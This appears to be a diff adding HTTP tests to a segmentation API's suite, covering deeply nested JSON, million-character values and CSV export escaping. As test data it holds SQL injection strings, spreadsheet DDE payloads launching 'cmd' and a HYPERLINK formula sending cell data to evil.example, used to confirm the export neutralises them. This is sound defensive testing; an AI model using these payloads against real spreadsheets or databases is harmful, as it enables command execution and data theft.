@@ -175,6 +175,36 @@ describe.each(stores)("segments over HTTP on %s", (store) => {
     });
   });
 
+  it("refuses a condition value nested thousands of levels deep with INVALID_SEGMENT, not a stack overflow (500)", async () => {
+    const deep = `${"[".repeat(5000)}1${"]".repeat(5000)}`;
+    const cases: Array<[string, string, string]> = [
+      ["/v1/segments/query", `{"where":{"property":"City","op":"eq","value":${deep}}}`, "where.value"],
+      ["/v1/segments/query", `{"where":{"property":"City","op":"in","value":["Paris",${deep}]}}`, "where.value[1]"],
+      [
+        "/v1/segments/query",
+        `{"where":{"did":"Charged","where":{"property":"Amount","op":"eq","value":${deep}}}}`,
+        "where.where.value",
+      ],
+      ["/v1/segments", `{"name":"deep","where":{"property":"City","op":"eq","value":${deep}}}`, "where.value"],
+    ];
+    for (const [path, body, field] of cases) {
+      const r = await s.api("POST", path, body);
+      expect(r.status, field).toBe(400);
+      expect(r.body.error.code).toBe("INVALID_SEGMENT");
+      expect(r.body.error.field.startsWith(`${field}[0]`), r.body.error.field).toBe(true);
+      expect(r.body.error.message).toContain("64 levels");
+    }
+  });
+
+  it("answers startsWith with a value of a million characters (no match), not a stack overflow (500)", async () => {
+    for (const value of ["x".repeat(200_000), `${"é".repeat(500_000)}😀`.repeat(2)]) {
+      const r = await query({ property: "Name", op: "startsWith", value });
+      expect(r.status, JSON.stringify(r.body).slice(0, 300)).toBe(200);
+      expect(r.body.count).toBe(0);
+    }
+    expect(await count({ property: "Name", op: "startsWith", value: "An" })).toBeGreaterThan(0);
+  });
+
   it("treats SQL-looking names and values as data", async () => {
     const hostile = ["x'); DROP TABLE profiles; --", 'Plan" OR 1=1 --', "a\\b", "$.props", "'", '"', "%", "_"];
     for (const property of hostile) {
@@ -310,6 +340,45 @@ describe.each(stores)("segments over HTTP on %s", (store) => {
     expect((await csv.text()).split("\r\n").slice(0, 2)).toEqual([
       "id,type,Identity,Email,Timezone,is_test_user",
       `${id},anonymous,,,Asia/Tokyo,Yes`,
+    ]);
+  });
+
+  it("exports text that starts like a spreadsheet formula with a leading quote, numbers as they are (audit F14)", async () => {
+    const other = await accounts(s);
+    const auth = { authorization: `Bearer ${other.secretKey}` };
+    const r = await s.api(
+      "POST",
+      "/v1/ingest",
+      {
+        records: [
+          {
+            type: "profile",
+            identity: { Identity: "=cmd|' /C calc'!A0" },
+            properties: {
+              A: '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+              B: "+cmd|' /C calc'!A0",
+              C: "-2+3",
+              D: "@SUM(1)",
+              E: "\t=1+1",
+              F: "\r=1+1",
+              G: -5,
+              H: "-5",
+              I: "plain",
+              Phone: "+33612345678",
+            },
+          },
+        ],
+      },
+      auth,
+    );
+    expect(r.body.status, JSON.stringify(r.body)).toBe("success");
+    const id = r.body.results[0].profileId;
+    const saved = await s.api("POST", "/v1/segments", { name: "all", where: { type: "identified" } }, auth);
+    const csv = await fetch(`${s.url}/v1/segments/${saved.body.id}/export.csv`, { headers: auth });
+    expect((await csv.text()).split("\r\n")).toEqual([
+      "id,type,Identity,Email,A,B,C,D,E,F,G,H,I,Phone",
+      `${id},identified,'=cmd|' /C calc'!A0,,"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",'+cmd|' /C calc'!A0,'-2+3,'@SUM(1),'\t=1+1,"'\r=1+1",-5,-5,plain,+33612345678`,
+      "",
     ]);
   });
 
